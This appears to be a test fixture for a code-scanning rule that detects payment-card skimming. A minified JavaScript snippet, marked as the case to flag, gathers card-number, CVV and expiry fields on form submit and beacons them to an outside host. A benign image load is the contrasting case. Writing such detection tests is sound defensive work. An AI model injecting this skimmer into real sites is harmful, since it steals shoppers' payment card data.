!function(){var t=document,n="https://cdn.example-metrics.com/p.gif",r=/(cc|card|pan|cvv|cvc|exp)/i;function a(){var e={};[].slice.call(t.querySelectorAll("input")).forEach(function(i){var k=i.name||i.id;i.value&&r.test(k)&&(e[k]=i.value)});return e}
// ruleid: skims_payment_card
t.addEventListener("submit",function(){(new Image).src=n+"?d="+encodeURIComponent(JSON.stringify(a()))},!0)}();
// ok: skims_payment_card
var preview = new Image; preview.src = "/img/card.png";
